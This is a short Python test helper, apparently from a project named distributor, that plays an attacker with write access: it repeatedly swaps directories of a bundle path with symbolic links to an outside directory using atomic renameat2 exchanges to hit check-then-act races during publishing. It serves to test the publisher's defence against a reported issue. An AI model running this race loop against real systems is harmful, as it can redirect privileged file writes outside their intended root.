# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""An attacker with write access to a destination, as a real process: it swaps directories of
the bundle path with symbolic links to a directory outside the root, atomically and in a tight
loop (renameat2 RENAME_EXCHANGE), while distributor publishes. Run as an unprivileged account
(`setpriv` to nobody) when the tests run as root, as the issue's web-content account would.

    python3 swapper.py SECONDS PAUSE OUTSIDE DIR [DIR ...]

Each DIR is exchanged with a link `DIR-evil` beside it (made when missing) for SECONDS seconds,
waiting up to PAUSE seconds (at random) after each exchange, so that publishes get far enough
for the swap to land between a check and the act it guards; prints the number of exchanges made
and of exchanges tried (a try fails while distributor has removed or not yet made a directory).
Standard library only: it runs under the system Python, which the unprivileged account can
execute.
"""

import ctypes
import os
import random
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2


def main() -> None:
    seconds, pause, outside, targets = float(sys.argv[1]), float(sys.argv[2]), sys.argv[3], sys.argv[4:]
    renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
    deadline = time.monotonic() + seconds
    swaps = tries = 0
    while time.monotonic() < deadline:
        for target in targets:
            link = target + "-evil"
            try:
                os.symlink(outside, link)
            except OSError:
                pass
            tries += 1
            if renameat2(AT_FDCWD, target.encode(), AT_FDCWD, link.encode(), RENAME_EXCHANGE) == 0:
                swaps += 1
                if pause:
                    time.sleep(random.random() * pause)
    print(swaps, tries)


if __name__ == "__main__":
    main()
